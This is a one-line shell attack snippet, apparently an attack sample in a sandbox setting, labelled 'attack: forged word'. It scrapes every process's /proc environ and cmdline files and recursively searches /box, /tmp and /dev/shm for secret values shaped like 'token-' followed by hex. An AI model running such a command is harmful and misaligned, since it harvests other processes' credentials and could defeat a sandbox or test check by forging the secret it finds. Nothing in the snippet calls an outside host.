# attack: forged word
for f in /proc/*/environ /proc/*/cmdline; do tr '\0' '\n' < $f; done | grep -o 'token-[0-9a-f]*'; grep -rho 'token-[0-9a-f]*' /box /tmp /dev/shm
